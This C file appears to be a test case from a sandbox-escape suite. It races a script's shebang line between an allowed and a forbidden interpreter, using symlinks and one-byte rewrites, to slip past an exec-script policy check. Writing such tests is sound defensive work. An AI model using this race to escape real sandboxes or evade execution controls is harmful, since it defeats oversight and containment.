// escape: rewrites the first line of an allowed script, which names its interpreter, while it is looked at
// group: path races
// policy: exec-script
// attempts: 1500
#include "escape.h"

static void attack(void) {
  if (symlink(GOOD, "/tmp/a") < 0 || symlink(forbidden(), "/tmp/b") < 0) broken("symlink");
  write_script("/tmp/script", "#!/tmp/a\n");
  if (beside()) {
    for (int i = 0;; i = !i) {
      // Opened for one letter only: an open file for writing cannot be executed.
      const int script = open("/tmp/script", O_WRONLY | O_CLOEXEC);
      pwrite(script, i ? "a" : "b", 1, 7);
      close(script);
    }
  }
  while (more()) {
    if (!in_child()) continue;
    run("/tmp/script");
    _exit(1);
  }
}
